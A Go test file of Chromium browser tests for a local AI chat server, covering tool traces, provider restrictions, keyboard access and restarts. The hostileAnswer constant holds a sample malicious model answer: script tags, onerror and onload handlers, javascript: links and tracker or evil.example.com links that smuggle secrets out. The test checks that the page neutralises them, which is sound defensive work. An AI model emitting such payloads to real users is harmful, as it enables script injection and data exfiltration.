package server

import (
	"context"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// chromium finds Debian's chromium, skipping the test when it is absent
// and failing it under CI=true, where .ci/run installs it.
func chromium(t *testing.T) string {
	t.Helper()
	for _, p := range []string{"chromium", "/usr/bin/chromium", "chromium-browser"} {
		if path, err := exec.LookPath(p); err == nil {
			return path
		}
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("chromium not found but CI=true: install Debian's chromium package (.ci/run does)")
	}
	t.Skip("chromium not found; install Debian's chromium package to run the browser tests")
	return ""
}

// browser is one headless Chromium with a log of every request it made.
type browser struct {
	t      *testing.T
	ctx    context.Context
	mu     sync.Mutex
	reqs   []string
	cancel func()
}

// newBrowser starts Chromium with a fresh profile. Its background services
// are off, and every host name resolves nowhere, so the browser reaches
// nothing but the loopback server it is pointed at.
func newBrowser(t *testing.T) *browser {
	t.Helper()
	path := chromium(t)
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(path),
		chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU, chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("disable-default-apps", true),
		chromedp.Flag("disable-extensions", true),
		chromedp.Flag("disable-features", "Translate,OptimizationHints,MediaRouter,DialMediaRouteProvider,NetworkTimeServiceQuerying,AutofillServerCommunication"),
		chromedp.Flag("host-resolver-rules", "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"),
		chromedp.Flag("no-proxy-server", true),
		chromedp.UserDataDir(t.TempDir()),
		chromedp.WindowSize(1280, 900),
	}
	actx, acancel := chromedp.NewExecAllocator(context.Background(), opts...)
	b := &browser{t: t}
	ctx, cancel := chromedp.NewContext(actx, chromedp.WithListener(b.record))
	if err := chromedp.Do(ctx); err != nil {
		cancel()
		acancel()
		t.Fatalf("starting chromium: %v", err)
	}
	b.ctx = ctx
	b.cancel = func() { cancel(); acancel() }
	t.Cleanup(b.cancel)
	return b
}

func (b *browser) record(ev any) {
	if e, ok := ev.(*network.EventRequestWillBeSent); ok {
		b.mu.Lock()
		b.reqs = append(b.reqs, e.Request.URL)
		b.mu.Unlock()
	}
}

// tab opens another tab of the same browser, recording its requests too.
func (b *browser) tab() (*browser, func()) {
	ctx, cancel := chromedp.NewContext(b.ctx, chromedp.WithListener(b.record))
	if err := chromedp.Do(ctx); err != nil {
		b.t.Fatal(err)
	}
	return &browser{t: b.t, ctx: ctx, cancel: cancel}, cancel
}

// requests returns every address the browser asked for.
func (b *browser) requests() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.reqs...)
}

// onlyLoopback fails the test when the browser asked for anything but the
// server at base.
func (b *browser) onlyLoopback(bases ...string) {
	b.t.Helper()
	for _, r := range b.requests() {
		ok := false
		for _, base := range bases {
			ok = ok || strings.HasPrefix(r, base+"/") || r == base
		}
		if !ok {
			b.t.Errorf("the browser requested %s", r)
		}
	}
}

func (b *browser) do(steps ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, steps...); err != nil {
		b.t.Fatalf("browser: %v", err)
	}
}

// eval runs a script and returns its result.
func eval[T any](b *browser, js string) T {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](js))
	if err != nil {
		b.t.Fatalf("evaluating %s: %v", js, err)
	}
	return v
}

// wait polls js until it is truthy.
func (b *browser) wait(js string) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	if _, err := chromedp.Run(ctx, chromedp.Poll[any](js, chromedp.WithPollingInterval(20*time.Millisecond))); err != nil {
		text, _ := chromedp.Run(b.ctx, chromedp.Evaluate[string](`document.body.innerText`))
		b.t.Fatalf("waiting for %s: %v\npage text:\n%s", js, err, text)
	}
}

// open loads the page through the address `steward serve` prints.
func (b *browser) open(e *env, hash string) {
	b.t.Helper()
	b.do(chromedp.Navigate(e.url("/?token=" + url.QueryEscape(e.token))))
	b.wait(`document.querySelector("#provider option") !== null`)
	if hash != "" {
		b.do(chromedp.Navigate(e.url("/" + hash)))
	}
}

// screenshot writes docs/NAME.png when STEWARD_SCREENSHOTS is set, so that
// ordinary runs leave the committed pictures alone.
func (b *browser) screenshot(name string) {
	b.t.Helper()
	if os.Getenv("STEWARD_SCREENSHOTS") == "" {
		return
	}
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		b.t.Fatal(err)
	}
	path := filepath.Join("..", "docs", name+".png")
	if err := os.WriteFile(path, png, 0o644); err != nil {
		b.t.Fatal(err)
	}
	b.t.Logf("wrote %s", path)
}

func TestBrowserWholeChatWithToolCallRefusalAndSources(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "disabled:")
	var e *env
	e = newEnv(t, envOptions{
		pages:  map[string]string{"/article": articlePage},
		script: func(r providerRequest) reply { return chatScript(e.web.URL("news.example.com", "/article"))(r) },
	})
	article := e.web.URL("news.example.com", "/article")
	b := newBrowser(t)
	b.open(e, "")
	b.do(chromedp.Click("#new-chat", chromedp.NodeVisible))
	b.wait(`document.activeElement && document.activeElement.id === "composer-text"`)
	b.do(chromedp.SendKeys("#composer-text", "What does "+article+" say about delivery?"), chromedp.KeyEvent(kb.Enter))
	b.wait(`document.querySelector(".msg.assistant .sources") !== null && !document.querySelector("[aria-busy]")`)

	traces := eval[[]string](b, `Array.from(document.querySelectorAll(".msg.assistant .trace summary")).map(s => s.textContent)`)
	if len(traces) != 2 || !strings.HasPrefix(traces[0], "DONE read_web_page") || !strings.HasPrefix(traces[1], "BLOCKED read_web_page") {
		t.Fatalf("tool activity: %q", traces)
	}
	args := eval[string](b, `document.querySelector(".msg.assistant .trace .args").textContent`)
	if !strings.Contains(args, article) {
		t.Errorf("the call's arguments are not shown: %q", args)
	}
	sources := eval[string](b, `document.querySelector(".msg.assistant .sources").textContent`)
	if !strings.Contains(sources, "Sources used by tools") || !strings.Contains(sources, "Delivery dates 2027") {
		t.Errorf("sources: %q", sources)
	}
	filter := eval[string](b, `(document.querySelector(".msg.assistant .filter") || {}).textContent || ""`)
	if !strings.Contains(filter, article) || !strings.Contains(filter, "WEB_CONTENT") {
		t.Errorf("the filter's report per source: %q", filter)
	}
	link := eval[[]string](b, `Array.from(document.querySelectorAll(".msg.assistant .body a")).map(a => a.href + " " + a.rel + " " + a.target)`)
	if len(link) != 1 || link[0] != article+" noopener noreferrer _blank" {
		t.Errorf("links in the answer: %q", link)
	}
	if got := eval[string](b, `document.getElementById("req-confidence").textContent + "|" + document.getElementById("req-outbound").textContent`); got != "NONE|UNRESTRICTED" {
		t.Errorf("requirements shown: %q", got)
	}
	if title := eval[string](b, `document.getElementById("chat-title").textContent`); !strings.HasPrefix(title, "What does") {
		t.Errorf("the chat's title: %q", title)
	}
	b.screenshot("serve-chat")
	b.onlyLoopback(e.http.URL)
}

func TestBrowserForbiddenProviderShowsWhy(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "disabled:")
	e := newEnv(t, envOptions{user: withMailbox})
	id := storeRestricted(t, e)
	b := newBrowser(t)
	b.open(e, "#chat="+id)
	b.wait(`document.getElementById("chat-title").textContent === "Mail from the supplier"`)
	got := eval[string](b, `document.getElementById("requirements").innerText`)
	for _, want := range []string{"HIGH", "ONLY_LINKS_FROM_CHAT", "demanded by Work mail"} {
		if !strings.Contains(got, want) {
			t.Errorf("requirements %q lack %q", got, want)
		}
	}
	if eval[bool](b, `document.getElementById("send").disabled`) {
		t.Fatal("Send is off for the allowed provider")
	}
	b.do(chromedp.SetValue("#provider", "cloud"))
	eval[bool](b, `document.getElementById("provider").dispatchEvent(new Event("change"))`)
	b.wait(`!document.getElementById("provider-why").hidden`)
	why := eval[string](b, `document.getElementById("provider-why").textContent`)
	if !strings.Contains(why, "OpenAI") || !strings.Contains(why, "confidence HIGH") || !strings.Contains(why, "MEDIUM") {
		t.Errorf("the reason shown: %q", why)
	}
	if !eval[bool](b, `document.getElementById("send").disabled`) {
		t.Error("Send stays on for a provider the chat forbids")
	}
	label := eval[string](b, `document.querySelector('#provider option[value="cloud"]').textContent`)
	if !strings.Contains(label, "not allowed for this chat") {
		t.Errorf("the provider's option: %q", label)
	}
	b.screenshot("serve-forbidden-provider")
	// The mail source is shown as text, never as a link.
	if n := eval[int](b, `document.querySelectorAll('.sources a').length`); n != 0 {
		t.Errorf("a mailbox source became a link")
	}
	b.onlyLoopback(e.http.URL)
}

// hostileAnswer is a model answer written to make the page run code, load
// things and lead the user to addresses the chat may not reach.
const hostileAnswer = `Here is your summary.
<script>window.__pwned = "script"</script>
<img src="http://tracker.example.net/pixel.gif?d=secret" onerror="window.__pwned='img'">
<iframe src="http://frame.example.net/"></iframe>
<svg onload="window.__pwned='svg'"><circle r="5"/></svg>
<a href="https://evil.example.com/a" onclick="window.__pwned='onclick'">raw link</a>
<div style="background:url(http://css.example.net/bg.png)">styled</div>
[click me](javascript:window.__pwned='js')
[data](data:text/html,<script>window.__pwned='data'</script>)
![tracker](http://tracker.example.net/beacon.png?chat=secret)
[exfiltrate](https://evil.example.com/collect?d=the-secret-order)
Plain address: https://evil.example.com/plain?d=secret
The page you gave: [given](https://news.example.com/given)
<!-- <script>window.__pwned='comment'</script> -->
` + "```html\n<script>shown as code</script>\n```\n"

func TestBrowserHostileAnswerExecutesAndLoadsNothing(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "disabled:")
	e := newEnv(t, envOptions{user: withMailbox, script: func(r providerRequest) reply {
		// The hostile answer streams in small pieces, so that the page
		// renders each partial state too.
		var parts []string
		for s := hostileAnswer; s != ""; {
			n := min(7, len(s))
			parts = append(parts, s[:n])
			s = s[n:]
		}
		return reply{frames: textFrames(parts...)}
	}})
	id := storeRestricted(t, e)
	b := newBrowser(t)
	b.open(e, "#chat="+id)
	b.wait(`document.getElementById("chat-title").textContent === "Mail from the supplier"`)
	b.do(chromedp.SendKeys("#composer-text", "Summarize https://news.example.com/given for me"), chromedp.KeyEvent(kb.Enter))
	b.wait(`document.querySelectorAll(".msg.assistant").length === 2 && !document.querySelector("[aria-busy]")`)
	// Give anything that might load or run a moment to do so.
	b.do(chromedp.Sleep(300 * time.Millisecond))

	if p := eval[string](b, `String(window.__pwned)`); p != "undefined" {
		t.Errorf("the hostile answer ran code: %s", p)
	}
	if n := eval[int](b, `document.querySelectorAll("#messages script, #messages img, #messages iframe, #messages svg, #messages object, #messages embed, #messages [style]").length`); n != 0 {
		t.Errorf("%d active elements reached the page", n)
	}
	if n := eval[int](b, `Array.from(document.querySelectorAll("#messages *")).filter(el => Array.from(el.attributes).some(a => a.name.startsWith("on"))).length`); n != 0 {
		t.Errorf("%d elements carry event handlers", n)
	}
	links := eval[[]string](b, `Array.from(document.querySelectorAll(".msg.assistant:last-child a")).map(a => a.getAttribute("href") + " " + a.rel)`)
	if len(links) != 1 || links[0] != "https://news.example.com/given noopener noreferrer" {
		t.Errorf("clickable links: %q; only the address the user gave may be one", links)
	}
	blocked := eval[[]string](b, `Array.from(document.querySelectorAll("#messages .link-off")).map(s => s.dataset.blockedHref)`)
	for _, want := range []string{"https://evil.example.com/collect?d=the-secret-order", "https://evil.example.com/plain?d=secret", "javascript:window.__pwned='js'"} {
		found := false
		for _, x := range blocked {
			found = found || x == want
		}
		if !found {
			t.Errorf("%s is not shown as a non-clickable address: %q", want, blocked)
		}
	}
	text := eval[string](b, `document.querySelectorAll(".msg.assistant")[1].innerText`)
	if strings.Contains(text, "__pwned = \"script\"") || strings.Contains(text, "onerror") || !strings.Contains(text, "Image: tracker — not loaded") || !strings.Contains(text, "<script>shown as code</script>") {
		t.Errorf("the rendered answer:\n%s", text)
	}
	b.screenshot("serve-hostile-answer")
	b.onlyLoopback(e.http.URL)
	if len(b.requests()) < 4 {
		t.Fatalf("the network log holds only %d requests: %v", len(b.requests()), b.requests())
	}
}

func TestBrowserKeyboardOnlyAndZoom(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "disabled:")
	e := newEnv(t, envOptions{})
	b := newBrowser(t)
	b.open(e, "")
	// Tab from the top of the page to "New chat", noting that each stop
	// shows its focus.
	var stops []string
	for i := 0; i < 12; i++ {
		b.do(chromedp.KeyEvent(kb.Tab))
		id := eval[string](b, `document.activeElement.id || document.activeElement.textContent`)
		outline := eval[string](b, `getComputedStyle(document.activeElement).outlineStyle + " " + getComputedStyle(document.activeElement).outlineWidth`)
		if strings.HasPrefix(outline, "none") || strings.HasSuffix(outline, " 0px") {
			t.Errorf("focus on %q is not visible: outline %s", id, outline)
		}
		stops = append(stops, id)
		if id == "new-chat" {
			break
		}
	}
	if stops[len(stops)-1] != "new-chat" {
		t.Fatalf("Tab never reached New chat: %q", stops)
	}
	b.do(chromedp.KeyEvent(kb.Enter))
	b.wait(`document.activeElement.id === "composer-text"`)
	b.do(chromedp.KeyEvent("Hello by keyboard"), chromedp.KeyEvent(kb.Enter))
	b.wait(`document.querySelectorAll(".msg.assistant").length === 1 && !document.querySelector("[aria-busy]")`)
	if got := eval[string](b, `document.querySelector(".msg.assistant .body").textContent`); got != "Hello there." {
		t.Fatalf("the answer: %q", got)
	}
	// Enter opens a chat from the list.
	// (The list is redrawn every few seconds; it keeps the focus.)
	eval[bool](b, `document.querySelector("#chat-list button").focus(), true`)
	b.do(chromedp.KeyEvent(kb.Enter))
	b.wait(`document.getElementById("chat-title").textContent === "Hello by keyboard"`)
	// Keyboard reaches the tool selection and toggles it with Space.
	b.wait(`document.getElementById("tool-read_web_page") !== null && !document.querySelector("[aria-busy]")`)
	eval[bool](b, `document.getElementById("tool-read_web_page").focus(), true`)
	before := eval[bool](b, `document.getElementById("tool-read_web_page").checked`)
	b.do(chromedp.KeyEvent(" "))
	b.wait(fmt.Sprintf(`document.getElementById("tool-read_web_page").checked === %t && document.activeElement.id === "tool-read_web_page"`, !before))

	// 200% zoom on a 1280-pixel window: a 640-pixel layout viewport.
	b.do(chromedp.EmulateViewport(640, 900, chromedp.EmulateScale(2)))
	b.do(chromedp.Sleep(200 * time.Millisecond))
	overflow := eval[int](b, `document.documentElement.scrollWidth - document.documentElement.clientWidth`)
	if overflow > 0 {
		t.Errorf("at 200%% zoom the page is %d pixels wider than the window", overflow)
	}
	small := eval[int](b, `Array.from(document.querySelectorAll("button, label, p, dd, dt, summary, select, input, textarea")).filter(el => el.offsetParent && parseFloat(getComputedStyle(el).fontSize) < 12).length`)
	if small != 0 {
		t.Errorf("%d elements have text below 12 CSS pixels", small)
	}
	b.screenshot("serve-zoom-200")
	b.onlyLoopback(e.http.URL)
}

func TestBrowserTabsTurnOutlivesItsTabAndRestartShowsChats(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "disabled:")
	home := t.TempDir()
	script := func(r providerRequest) reply {
		if strings.Contains(r.lastUser(), "slow") {
			parts := make([]string, 40)
			for i := range parts {
				parts[i] = "slow "
			}
			return reply{frames: textFrames(append(parts, "answer", " done.")...), gap: 250 * time.Millisecond}
		}
		return reply{frames: textFrames("Quick answer.")}
	}
	e := newEnv(t, envOptions{home: home, script: script})
	b := newBrowser(t)
	b.open(e, "")
	other, closeOther := b.tab()
	other.open(e, "")

	// The first tab starts a slow answer and is closed at once.
	first, closeFirst := b.tab()
	first.open(e, "")
	first.do(chromedp.Click("#new-chat", chromedp.NodeVisible))
	first.wait(`document.activeElement.id === "composer-text"`)
	first.do(chromedp.SendKeys("#composer-text", "a slow question"), chromedp.KeyEvent(kb.Enter))
	first.wait(`document.querySelector("[aria-busy]") !== null`)
	closeFirst()

	// Another tab sees the chat answering, opens it and watches it finish.
	other.wait(`Array.from(document.querySelectorAll("#chat-list button")).some(b => b.textContent.includes("(answering)"))`)
	other.do(chromedp.Click(`#chat-list button`, chromedp.NodeVisible))
	other.wait(`document.querySelector(".msg.assistant .body") && document.querySelector(".msg.assistant .body").textContent.endsWith("answer done.") && !document.querySelector("[aria-busy]")`)

	// A second chat in the other tab runs beside nothing else.
	other.do(chromedp.Click("#new-chat", chromedp.NodeVisible))
	other.wait(`document.activeElement.id === "composer-text"`)
	other.do(chromedp.SendKeys("#composer-text", "quick one"), chromedp.KeyEvent(kb.Enter))
	other.wait(`document.querySelector(".msg.assistant .body") && document.querySelector(".msg.assistant .body").textContent === "Quick answer."`)
	closeOther()

	// A restarted server shows every stored chat.
	firstBase := e.http.URL
	e.close()
	e2 := newEnv(t, envOptions{home: home, script: script})
	b.open(e2, "")
	b.wait(`document.querySelectorAll("#chat-list button").length === 2`)
	titles := eval[[]string](b, `Array.from(document.querySelectorAll("#chat-list button")).map(b => b.textContent)`)
	joined := strings.Join(titles, "|")
	if !strings.Contains(joined, "a slow question") || !strings.Contains(joined, "quick one") {
		t.Fatalf("after a restart the chats are %q", titles)
	}
	b.do(chromedp.Click(`#chat-list button`, chromedp.NodeVisible))
	b.wait(`document.querySelectorAll(".msg").length === 2`)
	b.onlyLoopback(firstBase, e2.http.URL)
}
